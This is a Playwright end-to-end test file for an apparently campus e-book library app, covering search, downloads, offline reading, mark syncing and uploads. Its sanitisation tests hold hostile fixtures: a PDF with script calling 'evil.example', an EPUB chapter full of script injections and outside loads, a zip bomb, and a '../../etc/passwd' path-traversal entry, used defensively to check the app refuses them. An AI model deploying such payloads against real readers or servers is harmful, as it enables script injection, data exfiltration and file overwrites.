import { readFile } from 'node:fs/promises'
import type { Page } from '@playwright/test'
import { small } from '#demo/books/small.ts'
import { zip } from '#demo/books/zip.ts'
import { aBook, aPhoto } from '#server/testing/media.ts'
import { addBook } from './add-book.ts'
import { demo, draftsHere, expect, signIn, test, workerStands } from './campus.ts'
import { cutLine } from './cut-line.ts'

test.use({ serviceWorkers: 'allow' })

const shelf = (page: Page) => page.locator('.shelf').getByRole('listitem')

async function openBook(page: Page, title: string | RegExp): Promise<string> {
  await page.getByRole('heading', { level: 3 }).getByRole('link', { name: title }).click()
  await expect(page.getByRole('dialog').getByRole('heading', { level: 2, name: title })).toBeVisible()
  return new URL(page.url()).pathname.split('/')[2] ?? ''
}

test('a visitor searches with and without tone marks, narrows, and comes back to the shelf', async ({
  page,
}) => {
  const { total } = await (await page.request.get('/api/books')).json()
  await page.goto('/books')
  await expect(page.getByRole('heading', { name: `All Books (${total})`, exact: true })).toBeVisible()
  await expect(shelf(page)).toHaveCount(12)
  await page.getByRole('link', { name: 'Load More Books' }).click()
  await expect(shelf(page)).toHaveCount(24)

  const search = page.getByRole('searchbox').locator('visible=true')
  await search.fill('eko yoruba')
  await search.press('Enter')
  await expect(page.getByRole('heading', { name: 'Search Results (1)' })).toBeVisible()
  await openBook(page, /Yorùbá/)
  await page.keyboard.press('Escape')
  await expect(page.getByRole('heading', { name: 'Search Results (1)' })).toBeVisible()
  await expect(page).toHaveURL(/\/books\?search=eko/)

  await page.goto('/books?search=nothing+of+the+kind')
  await expect(page.getByText('No books found')).toBeVisible()
  await page.goto('/books')
  await page.getByLabel('Department').selectOption('Law')
  await expect(page).toHaveURL(/department=Law/)
  await expect(page.getByRole('heading', { name: /^All Books \(2\)$/ })).toBeVisible()
})

test('a member rates a book once and for good', async ({ page }) => {
  await signIn(page, 'student')
  const { items } = (await (await page.request.get('/api/books')).json()) as { items: { id: string }[] }
  const ratings = await Promise.all(
    items.map(async ({ id }) => (await (await page.request.get(`/api/books/${id}/rating`)).json()).rating),
  )
  await page.goto(`/books/${items[ratings.indexOf(null)]?.id}`)
  const dialog = page.getByRole('dialog')
  await expect(dialog.getByText(/Your rating|You rated this book/).first()).toBeVisible()
  await dialog.locator('label', { hasText: '4 of 5' }).click()
  await dialog.getByRole('button', { name: 'Give 4 stars' }).click()
  await expect(page.getByText('Thank you for your rating!').first()).toBeAttached()
  await expect(dialog.getByText('You rated this book')).toBeVisible()
  await page.reload()
  await expect(dialog.getByText('You rated this book')).toBeVisible()
})

test('a download over a line that is cut goes on where it broke, and the book stays on the phone', async ({
  page,
  campus,
}) => {
  const line = await cutLine(campus.url, '/files/')
  try {
    await page.goto(`${line.url}/books?search=data+structures`)
    const id = await openBook(page, /Data Structures/)
    const { file } = (await (await page.request.get(`${campus.url}/api/books/${id}`)).json()) as {
      file: { id: string; name: string; bytes: number }
    }
    const download = page.getByRole('dialog').getByRole('link', { name: /^Download/ })
    await expect(download).toContainText('EPUB')
    line.asked.length = 0
    line.cutAfter(9_000, 6_000)
    const saved = page.waitForEvent('download')
    await download.click()
    const got = await saved
    expect(got.suggestedFilename()).toBe(`fuoye-${file.name}`)
    const whole = await (
      await page.request.get(`${campus.url}/files/${file.id}/${encodeURIComponent(file.name)}`)
    ).body()
    expect(whole).toHaveLength(file.bytes)
    expect(whole.equals(await readFile(await got.path()))).toBe(true)

    const ranges = line.asked.filter(({ url }) => url.includes(file.id)).map(({ range }) => range)
    expect(ranges[0]).toBeUndefined()
    expect(ranges.length).toBeGreaterThan(1)
    for (const range of ranges.slice(1)) expect(range).toMatch(/^bytes=[1-9]\d*-$/)
    await expect(page.getByText('Download completed!').first()).toBeAttached()
    await expect(page.getByRole('dialog').getByText('On this phone')).toBeVisible()
    await page.getByRole('link', { name: 'Close' }).click()
    await expect(shelf(page).getByText('On this phone')).toBeVisible()
  } finally {
    await line.close()
  }
})

test('a book is read, read on without a network, and found at its place again, here and on another device', async ({
  page,
  context,
  browser,
  campus,
}) => {
  test.setTimeout(90_000)
  await signIn(page, 'student')
  await page.goto('/books?search=data+structures')
  await workerStands(page)
  const id = await openBook(page, /Data Structures/)
  await page.getByRole('link', { name: /^Read/ }).click()
  const where = page.getByRole('contentinfo').or(page.locator('.reader-foot')).getByRole('status')
  await expect(where).toContainText('1 of')
  await page.keyboard.press('ArrowRight')
  await expect(where).toContainText('2 of')
  // Over the end of the chapter into the next.
  const first = await where.textContent()
  await page.getByRole('button', { name: 'Next page' }).click()
  await expect(where).not.toHaveText(first ?? '')
  await expect(where).toContainText('1 of')
  const second = await where.textContent()

  await context.setOffline(true)
  await page.getByRole('button', { name: 'Next page' }).click()
  await expect(where).not.toHaveText(second ?? '')
  const offline = await where.textContent()
  await page.reload()
  await expect(where).toHaveText(offline ?? '')

  const kept = page.waitForResponse(
    (reply) => reply.url().endsWith(`/api/books/${id}/place`) && reply.request().method() === 'PUT',
  )
  await context.setOffline(false)
  expect((await kept).ok()).toBe(true)

  const other = await browser.newContext({ baseURL: campus.url, viewport: { width: 360, height: 800 } })
  const elsewhere = await other.newPage()
  await signIn(elsewhere, 'student')
  await elsewhere.goto('/books')
  await elsewhere.getByRole('link', { name: /^Continue reading/ }).click()
  await expect(elsewhere).toHaveURL(new RegExp(`/books/${id}/read$`))
  await expect(elsewhere.locator('.reader-foot').getByRole('status')).toHaveText(offline ?? '')
  await other.close()
})

test('what is marked without a network is on another phone, and what is removed there is gone here', async ({
  page,
  context,
  browser,
  campus,
}) => {
  await signIn(page, 'student')
  await page.goto('/books?search=data+structures')
  await workerStands(page)
  await openBook(page, /Data Structures/)
  await page.getByRole('link', { name: /^Read/ }).click()
  await expect(page.locator('.flow-page')).toContainText(/\w{4}/)
  await page.getByRole('button', { name: 'Search in this book' }).click()
  await page.getByRole('searchbox', { name: 'Search in this book' }).fill('array')
  await page.keyboard.press('Enter')
  await expect(page.getByRole('search').getByRole('status')).toHaveText(/^\d of \d$/)
  await page.getByRole('button', { name: 'Close the search' }).click()

  await context.setOffline(true)
  const quote = await page.locator('.flow-page').evaluate((view) => {
    const root = view.firstElementChild?.shadowRoot
    const text = root?.querySelector('p')?.firstChild as Text
    const range = document.createRange()
    range.setStart(text, 0)
    range.setEnd(text, 20)
    const selection = (root as unknown as Document).getSelection() ?? document.getSelection()
    selection?.removeAllRanges()
    selection?.addRange(range)
    return range.toString().trim()
  })
  await page.getByRole('button', { name: 'Highlight' }).click()
  await page.getByRole('button', { name: 'Contents' }).click()
  const marks = page.getByRole('region', { name: 'Your marks' })
  await marks.getByRole('button', { name: `Note: ${quote}` }).click()
  await page.getByLabel('Your note').fill('For the exam')
  await page.getByRole('button', { name: 'Save' }).click()
  await page.getByRole('button', { name: 'Contents' }).click()
  await expect(marks).toContainText('For the exam')
  await page.reload()
  await page.getByRole('button', { name: 'Contents' }).click()
  await expect(marks).toContainText('For the exam')
  await page.keyboard.press('Escape')
  await context.setOffline(false)
  const there = async () => {
    const [, , id] = new URL(page.url()).pathname.split('/')
    return (await page.request.get(`/api/books/${id}/marks`)).text()
  }
  await expect.poll(there).toContain('For the exam')

  const other = await browser.newContext({ baseURL: campus.url, viewport: { width: 360, height: 800 } })
  const elsewhere = await other.newPage()
  await signIn(elsewhere, 'student')
  await elsewhere.goto(new URL(page.url()).pathname)
  await elsewhere.getByRole('button', { name: 'Contents' }).click()
  const theirs = elsewhere.getByRole('region', { name: 'Your marks' })
  await expect(theirs.getByRole('listitem')).toHaveCount(1)
  await expect(theirs).toContainText('For the exam')
  const removed = elsewhere.waitForResponse((reply) => reply.url().includes('/marks/') && reply.ok())
  await theirs.getByRole('button', { name: /^Remove/ }).click()
  await removed
  await other.close()
  await page.reload()
  await expect(page.locator('.flow-page')).toContainText(/\w{4}/)
  await page.getByRole('button', { name: 'Contents' }).click()
  await expect(page.getByRole('dialog').getByRole('heading', { name: 'Contents' })).toBeVisible()
  await expect(marks).toHaveCount(0)
})

test('a mark that the campus takes no more is told of, stands as what it is, and can be removed', async ({
  page,
}) => {
  await signIn(page, 'student')
  await page.goto('/books?search=data+structures')
  await openBook(page, /Data Structures/)
  await page.getByRole('link', { name: /^Read/ }).click()
  await expect(page.locator('.flow-page')).toContainText(/\w{4}/)
  const message = 'A book holds at most 1000 marks. Remove some first.'
  await page.route(/\/marks\//, (route) =>
    route.fulfill({ status: 409, json: { code: 'conflict', message } }),
  )
  await page.getByRole('button', { name: 'Bookmark', exact: true }).click()
  await expect(page.getByText(`${message} It stays on this phone alone.`).first()).toBeAttached()
  await page.getByRole('button', { name: 'Contents' }).click()
  const alone = page
    .getByRole('region', { name: 'Your marks' })
    .getByRole('listitem')
    .filter({ hasText: `On this phone alone: ${message}` })
  await expect(alone).toHaveCount(1)
  await alone.getByRole('button', { name: /^Remove/ }).click()
  await expect(alone).toHaveCount(0)
  await page.goto('/outbox')
  await expect(page.getByText(/^Bookmark in/)).toHaveCount(0)

  // The same, taken out of the outbox.
  await page.goBack()
  await page.getByRole('button', { name: 'Bookmark', exact: true }).click()
  await page.getByRole('link', { name: 'Look into your outbox' }).first().click()
  const row = page.getByRole('listitem').filter({ hasText: 'Bookmark in' })
  await expect(row).toContainText('A book holds at most 1000 marks')
  await row.getByRole('button', { name: 'Remove' }).click()
  await expect(row).toHaveCount(0)
  await page.goBack()
  await page.getByRole('button', { name: 'Contents' }).click()
  await expect(page.getByRole('dialog').getByRole('heading', { name: 'Contents' })).toBeVisible()
  await expect(alone).toHaveCount(0)
})

test('a PDF opens, turns, grows, darkens, and opens again without a network', async ({ page, context }) => {
  await page.goto('/books?search=phy+101')
  await workerStands(page)
  await openBook(page, /PHY 101/)
  const read = page.getByRole('link', { name: /^Read/ })
  await read.click()
  const where = page.locator('.reader-foot').getByRole('status')
  await expect(where).toHaveText('Page 1 of 4')
  await expect(page.getByText('Units and motion').first()).toBeAttached()
  await page.getByRole('button', { name: 'Next page' }).click()
  await expect(where).toHaveText('Page 2 of 4')

  await page.getByRole('button', { name: 'Contents' }).click()
  await page.getByRole('dialog').getByRole('button', { name: 'Forces' }).click()
  await expect(where).toHaveText('Page 3 of 4')
  await page.getByRole('button', { name: 'Text and paper' }).click()
  const width = () =>
    page
      .locator('.pdfViewer .page')
      .first()
      .evaluate((one) => one.clientWidth)
  const before = await width()
  await page.getByRole('button', { name: 'Larger' }).click()
  await expect.poll(width).toBeGreaterThan(before)
  await page.getByText('Dark paper').click()
  await expect(page.locator('.reader')).toHaveAttribute('data-theme', 'dark')
  await expect(page.getByRole('dialog').getByText('On this phone')).toBeVisible()
  await page.keyboard.press('Escape')
  await expect(where).toHaveText('Page 3 of 4')

  await page.waitForFunction(async () => {
    const names = (await (await caches.open('assets')).keys()).map(({ url }) => url)
    return names.some((name) => name.includes('pdf.worker'))
  })
  await context.setOffline(true)
  await page.reload()
  await expect(where).toHaveText('Page 3 of 4')
  await expect(page.getByText('Forces').first()).toBeAttached()

  await page.getByRole('button', { name: 'Search in this book' }).click()
  await page.getByRole('searchbox', { name: 'Search in this book' }).fill('forces')
  await page.keyboard.press('Enter')
  await expect(page.getByRole('search').getByRole('status')).toHaveText(/^\d of \d$/)
  await page.getByRole('button', { name: 'Close the search' }).click()
  await page.getByRole('button', { name: 'Contents' }).click()
  await page.getByRole('dialog').getByLabel('Page').fill('4')
  await page.getByRole('dialog').getByRole('button', { name: 'Go' }).click()
  await expect(where).toHaveText('Page 4 of 4')
  await context.setOffline(false)
})

test('a MOBI opens in pages too', async ({ page }) => {
  await page.goto('/books?search=workshop+practice')
  await openBook(page, /Workshop Practice/)
  await page.getByRole('link', { name: /^Read/ }).click()
  await expect(page.locator('.reader-foot').getByRole('status')).toContainText('1 of')
  await expect(page.locator('.flow-page')).toContainText(/\w{4}/)
})

test('a MOBI that opens only elsewhere is said to, before a byte of it is fetched, and can be downloaded', async ({
  page,
}) => {
  await signIn(page, 'student')
  for (const [title, mobi] of [['Packed as nobody does', small.mobi({ packing: 9 })]] as const) {
    await page.goto('/add-books')
    const file = { name: 'kindle.mobi', mimeType: 'application/octet-stream', buffer: mobi }
    await page.getByLabel('Book file').setInputFiles(file)
    await expect(page.getByText('It cannot be read inside the app')).toBeVisible()
    await page.getByRole('textbox', { name: 'Title' }).fill(title)
    await page.getByLabel('Description').fill('For another reader.')
    await page.getByText('Drawn from its title').click()
    await page.getByRole('button', { name: 'Upload Book' }).click()
    const dialog = page.getByRole('dialog')
    await expect(dialog.getByRole('heading', { name: title })).toBeVisible()
    await expect(dialog.getByText('This kind of MOBI opens only in a reader of its own.')).toBeVisible()
    await expect(dialog.getByRole('link', { name: /^Read/ })).toHaveCount(0)
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      dialog.getByRole('link', { name: /^Download/ }).click(),
    ])
    expect(download.suggestedFilename()).toBe(`fuoye-${title}.mobi`)
    expect(mobi.equals(await readFile(await download.path()))).toBe(true)

    // Who has the address of the reader is told the same, and pays nothing.
    const fetched: string[] = []
    page.on('request', (asking) => {
      if (/\.mobi/.test(asking.url())) fetched.push(asking.url())
    })
    await page.goto(`${page.url().replace(/\?.*/, '')}/read`)
    await expect(
      page.getByRole('alert').filter({ hasText: 'opens only in a reader of its own' }),
    ).toBeVisible()
    await expect(page.getByRole('alert').getByRole('link', { name: 'Download' })).toBeVisible()
    expect(fetched).toEqual([])
    page.removeAllListeners('request')
  }
})

const epub = (chapter: string, more: { name: string; content: string }[] = []) =>
  Buffer.from(
    zip([
      { name: 'mimetype', content: 'application/epub+zip', stored: true },
      {
        name: 'META-INF/container.xml',
        content:
          '<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles><rootfile full-path="b.opf" media-type="application/oebps-package+xml"/></rootfiles></container>',
      },
      {
        name: 'b.opf',
        content:
          '<package xmlns="http://www.idpf.org/2007/opf" xmlns:dc="http://purl.org/dc/elements/1.1/"><metadata><dc:title>A trap</dc:title><dc:creator>Nobody</dc:creator></metadata><manifest><item id="a" href="a.xhtml" media-type="application/xhtml+xml"/></manifest><spine><itemref idref="a"/></spine></package>',
      },
      { name: 'a.xhtml', content: chapter },
      ...more,
    ]),
  )

const pdfWithScript = Buffer.from(
  [
    '%PDF-1.4',
    '1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\("caught"\\); this.submitForm\\("https://evil.example"\\))>>>>endobj',
    '2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj',
    '3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 400]/Annots[4 0 R]>>endobj',
    '4 0 obj<</Type/Annot/Subtype/Link/Rect[0 0 300 400]/A<</S/URI/URI(javascript:window.caught=1)>>>>endobj',
    'trailer<</Root 1 0 R>>',
    '%%EOF',
    '',
  ].join('\n'),
)

test('a large EPUB opens for the bytes of what is read, which opens without a network afterwards', async ({
  page,
  context,
  campus,
}) => {
  const line = await cutLine(campus.url, '/files/')
  try {
    const data = { email: demo.student, password: demo.password }
    await page.request.post(`${line.url}/api/session`, { data })
    await page.goto(`${line.url}/books`)
    await workerStands(page)
    const pictures = [1, 2, 3].map((number) => ({
      name: `OPS/${number}.jpg`,
      content: aBook(4_000_000 + number).subarray(16),
      stored: true,
    }))
    await addBook(page, 'pictures.epub', Buffer.from(small.epub('', pictures)), 'A book of pictures')
    const read = page.getByRole('link', { name: /^Read/ })
    await expect(read).toContainText('At most 12 MB · ≈ ₦10')
    line.asked.length = 0
    await read.click()
    await expect(page.locator('.flow-page')).toContainText('One.')
    const bytes = line.asked.map(({ range }) =>
      /^bytes=(\d+)-(\d+)$/
        .exec(range ?? '')
        ?.slice(1)
        .map(Number),
    )
    const fetched = bytes.reduce((sum, [from, to] = [0, 12_000_000]) => sum + (to ?? 0) - (from ?? 0) + 1, 0)
    expect(fetched, JSON.stringify(line.asked)).toBeLessThan(200_000)
    await context.setOffline(true)
    await page.reload()
    await expect(page.locator('.flow-page')).toContainText('One.')
    await context.setOffline(false)
  } finally {
    await line.close()
  }
})

test('books with scripts in them are read, and nothing of theirs runs or loads', async ({
  browser,
  campus,
}) => {
  // A page of its own: the browser says on the console what it refuses, and here it has much to refuse.
  const context = await browser.newContext({ baseURL: campus.url, viewport: { width: 360, height: 800 } })
  const page = await context.newPage()
  const outside: string[] = []
  page.on('request', (asking) => {
    if (/evil\.example/.test(asking.url())) outside.push(asking.url())
  })
  page.on('dialog', (dialog) => {
    outside.push(dialog.message())
    void dialog.dismiss()
  })
  await signIn(page, 'student')
  const trap = `<html xmlns="http://www.w3.org/1999/xhtml"><head><script>parent.caught = 1</script>
    <style>body { background: url(https://evil.example/style) }</style></head><body onload="window.caught = 1">
    <p onclick="window.caught = 1" style="background: url(https://evil.example/p)">Read <b>this</b> and see.</p>
    <script>window.caught = 1</script><img src="https://evil.example/picture.png" onerror="window.caught = 1"/>
    <img src="none.png" onerror="window.caught = 1"/><iframe src="https://evil.example/frame"></iframe>
    <svg xmlns="http://www.w3.org/2000/svg" onload="window.caught = 1"><script>window.caught = 1</script></svg>
    <a href="javascript:window.caught = 1">follow me</a><object data="https://evil.example/object"/>
    <form action="https://evil.example/form"><input name="x"/></form></body></html>`
  await addBook(page, 'trap.epub', epub(trap), 'A trap in paper')
  await page.getByRole('link', { name: /^Read/ }).click()
  const text = page.locator('.flow-page')
  await expect(text).toContainText('Read this and see.')
  await text.getByText('Read').click()
  await text.getByText('follow me').click()
  const left = await text.evaluate(
    (view) =>
      view.firstElementChild?.shadowRoot
        ?.querySelector('article')
        ?.querySelectorAll(
          'script, style, iframe, object, form, input, svg, [onclick], [onerror], [style], a[href]',
        ).length,
  )
  expect(left).toBe(0)

  await addBook(page, 'trap.pdf', pdfWithScript, 'A trap in ink')
  await page.getByRole('link', { name: /^Read/ }).click()
  await expect(page.locator('.reader-foot').getByRole('status')).toHaveText('Page 1 of 1')
  await expect(page.locator('.pdfViewer canvas').first()).toBeVisible()
  await page.locator('.pdfViewer .page').click({ position: { x: 100, y: 100 } })
  expect(await page.evaluate(() => 'caught' in window)).toBe(false)
  expect(outside).toEqual([])
  await context.close()
})

test('files made to harm, and files that are no books, are refused before anything is sent', async ({
  page,
}) => {
  await signIn(page, 'student')
  await page.goto('/add-books')
  const page1 = '<html xmlns="http://www.w3.org/1999/xhtml"><body><p>One.</p></body></html>'
  const refused: [string, Buffer, RegExp][] = [
    ['bomb.epub', epub(page1, [{ name: 'bomb.txt', content: '0'.repeat(40 * 1024 * 1024) }]), /made to harm/],
    ['escape.epub', epub(page1, [{ name: '../../etc/passwd', content: 'x' }]), /made to harm/],
    ['cut.epub', epub(page1).subarray(0, 300), /damaged/],
    [
      'photo.pdf',
      Buffer.from('\xff\xd8\xff a photo', 'latin1'),
      /Please choose a PDF, EPUB, MOBI, DOCX or PPTX file/,
    ],
  ]
  let sent = 0
  page.on('request', (asking) => {
    if (asking.url().includes('/api/uploads')) sent += 1
  })
  for (const [name, buffer, reason] of refused) {
    await page.getByLabel('Book file').setInputFiles({ name, mimeType: 'application/pdf', buffer })
    await expect(page.getByRole('alert').filter({ hasText: reason }), name).toBeVisible()
  }
  await page.getByRole('button', { name: 'Upload Book' }).click()
  await expect(page.getByText('Please select both thumbnail and book file')).toBeVisible()
  expect(sent).toBe(0)
})

test('a book is added without a network, arrives by itself, is caught the second time, edited and removed', async ({
  page,
  context,
}) => {
  await signIn(page, 'student')
  await page.goto('/add-books')
  await workerStands(page)
  const notes = epub(
    '<html xmlns="http://www.w3.org/1999/xhtml"><body><h1>Notes</h1><p>Of the year.</p></body></html>',
  )
  await page
    .getByLabel('Book file')
    .setInputFiles({ name: 'GEO_201 notes.epub', mimeType: '', buffer: notes })
  await expect(page.getByRole('textbox', { name: 'Title' })).toHaveValue('A trap')
  await expect(page.getByLabel('Author')).toHaveValue('Nobody')
  await page.getByRole('textbox', { name: 'Title' }).fill('Rivers of Ekiti')
  await page.getByLabel('Description').fill('Where they rise and where they go.')
  await page.getByLabel('Course code').fill('geo201')
  await page.getByLabel('Level').selectOption('200')
  await page.getByText('Notes', { exact: true }).click()
  await expect(page.getByText(/Saved on this phone/)).toBeVisible()
  await expect.poll(() => draftsHere(page)).toContain('"notes"')
  await page.reload()
  await expect(page.getByRole('textbox', { name: 'Title' })).toHaveValue('Rivers of Ekiti')
  await expect(page.getByText('GEO_201 notes.epub')).toBeVisible()

  await context.setOffline(true)
  await page.getByRole('button', { name: 'Upload Book' }).click()
  await expect(page.getByText("Saved locally. Will upload when you're online.").first()).toBeAttached()
  await context.setOffline(false)
  await expect(page.getByText('Book uploaded successfully!').first()).toBeAttached({ timeout: 15_000 })

  await page.goto('/add-books')
  await page.getByLabel('Book file').setInputFiles({ name: 'again.epub', mimeType: '', buffer: notes })
  const already = page.getByRole('alert').filter({ hasText: 'This book is already in the library' })
  await already.getByRole('link', { name: 'Rivers of Ekiti' }).click()
  const dialog = page.getByRole('dialog')
  await expect(dialog.getByText('GEO 201 · 200 level · Notes')).toBeVisible()
  await dialog.getByRole('link', { name: 'Edit' }).click()
  await page.getByRole('textbox', { name: 'Title' }).fill('The Rivers of Ekiti')
  await page.getByRole('button', { name: 'Save Changes' }).click()
  await expect(dialog.getByRole('heading', { name: 'The Rivers of Ekiti' })).toBeVisible()

  await dialog.getByRole('link', { name: 'Edit' }).click()
  await page.getByRole('button', { name: 'Remove from the library' }).click()
  await expect(page.getByText('Book removed').first()).toBeAttached()
  await page.goto('/books?search=rivers')
  await expect(page.getByText('No books found')).toBeVisible()
})

test('the way back from the reader leads to the book, and from there to the shelf where one was', async ({
  page,
}) => {
  await page.goto('/books')
  await page.getByRole('link', { name: 'Load More Books' }).click()
  await expect.poll(() => shelf(page).count()).toBeGreaterThan(16)
  const all = await shelf(page).count()
  const title = await shelf(page).nth(16).getByRole('heading').textContent()
  await shelf(page).nth(16).scrollIntoViewIfNeeded()
  const place = await page.evaluate(() => Math.round(scrollY))
  expect(place).toBeGreaterThan(500)
  await openBook(page, title ?? '')
  const dialog = page.getByRole('dialog')
  for (const back of [
    () => page.getByRole('link', { name: 'Back to the book' }).click(),
    () => page.goBack(),
  ]) {
    await page.getByRole('link', { name: /^Read/ }).click()
    await expect(page).toHaveURL(/\/read$/)
    await expect(page.locator('.reader-foot').getByRole('status')).toContainText('of')
    await back()
    await expect(dialog.getByRole('heading', { level: 2, name: title ?? '' })).toBeVisible()
  }
  await page.goBack()
  await expect(dialog).toHaveCount(0)
  await expect(page).toHaveURL(/\/books$/)
  await expect(shelf(page)).toHaveCount(all)
  await expect.poll(() => page.evaluate(() => Math.round(scrollY))).toBeGreaterThan(place - 200)
})

test('whoever leaves a PDF while its pages are on their way leaves no error behind', async ({ page }) => {
  const { items } = await (await page.request.get('/api/books?search=PHY%20101')).json()
  await page.goto(`/books/${items[0].id}`)
  for (let time = 0; time < 8; time += 1) {
    await page.getByRole('link', { name: /^Read/ }).click()
    await page.locator('.pdfViewer .page').first().waitFor({ state: 'attached' })
    await page.goBack()
    await expect(page.getByRole('link', { name: /^Read/ })).toBeVisible()
  }
})

test('a book is chosen and looked into with no network, with a cover of one’s own made small', async ({
  page,
  context,
}) => {
  await signIn(page, 'student')
  await page.goto('/add-books')
  await workerStands(page)
  await expect(page.getByRole('button', { name: 'Upload Book' })).toBeVisible()
  await page.waitForLoadState('networkidle')
  await context.setOffline(true)
  const buffer = epub(
    '<html xmlns="http://www.w3.org/1999/xhtml"><body><p>Chosen on the bus.</p></body></html>',
  )
  await page.getByLabel('Book file').setInputFiles({ name: 'bus_notes.epub', mimeType: '', buffer })
  await expect(page.getByText('bus_notes.epub')).toBeVisible()
  await expect(page.getByRole('textbox', { name: 'Title' })).toHaveValue(/A trap|bus notes/)
  const photo = { name: 'cover.jpg', mimeType: 'image/jpeg', buffer: Buffer.from(await aPhoto(4_000)) }
  await page.getByLabel('Picture for the cover').setInputFiles(photo)
  await expect(page.getByRole('img', { name: 'The cover' })).toBeVisible()
  expect(photo.buffer.length).toBeGreaterThan(100_000)
  await expect(page.locator('.send-bar'), 'far less than was chosen').toContainText(/^\d\d? KB/)
  await page.getByRole('textbox', { name: 'Title' }).fill('Notes from the bus')
  await page.getByLabel('Description').fill('Written between Oye and Ikole.')
  await page.getByRole('button', { name: 'Upload Book' }).click()
  await expect(page.getByText("Saved locally. Will upload when you're online.").first()).toBeAttached()
  await context.setOffline(false)
  await expect(page.getByText('Book uploaded successfully!').first()).toBeAttached({ timeout: 20_000 })
  const { items } = await (await page.request.get('/api/books?search=notes+from+the+bus')).json()
  expect(items).toHaveLength(1)
  expect(items[0].cover).not.toBeNull()
})
